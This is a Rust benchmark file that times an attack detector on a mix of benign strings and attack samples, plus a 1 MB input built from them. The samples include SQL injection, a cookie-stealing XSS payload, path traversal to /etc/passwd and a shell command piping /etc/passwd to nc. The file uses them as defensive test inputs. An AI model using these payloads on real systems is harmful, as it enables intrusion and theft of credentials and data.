//! Detector throughput: ~50-byte mixed benign/attack inputs (half each), and one 1 MB input.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use seclog_core::detect::{AttackDetector, Detector};
use std::hint::black_box;

const MIX: &[&str] = &[
    "john.smith@example.com",
    "Please deliver after 5pm, ring the bell twice.",
    "/account/statements/2024/03?page=2&sort=desc",
    "O'Reilly Media, 1005 Gravenstein Hwy N, CA",
    "1 UNION SELECT username, password FROM users--",
    "' OR '1'='1' -- ",
    "<img src=x onerror=alert(document.cookie)>",
    "..%2f..%2f..%2fetc%2fpasswd",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
    "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101",
];

fn bench(c: &mut Criterion) {
    let d = Detector::default();
    let mut g = c.benchmark_group("detect");
    g.throughput(Throughput::Elements(MIX.len() as u64));
    g.bench_function("mix_50b_x10", |b| {
        b.iter(|| {
            let mut n = 0;
            for s in MIX {
                n += d.detect(black_box(s)).len();
            }
            n
        })
    });
    // 1 MB of realistic text with attack-ish characters sprinkled in.
    let mut big = String::with_capacity(1 << 20);
    let mut i = 0;
    while big.len() < (1 << 20) {
        big.push_str(MIX[i % MIX.len()]);
        big.push(' ');
        i += 1;
    }
    g.throughput(Throughput::Bytes(big.len() as u64));
    g.sample_size(10);
    // As deployed: the default detector examines a 64 KiB prefix and flags findings `oversized`.
    assert!(d.detect(&big).iter().all(|f| f.oversized));
    g.bench_function("one_1mb_input", |b| b.iter(|| d.detect(black_box(&big)).len()));
    // For reference: the whole megabyte analysed (limit raised to 2 MiB).
    let full = Detector::new(2 << 20);
    g.bench_function("one_1mb_input_full_scan", |b| b.iter(|| full.detect(black_box(&big)).len()));
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
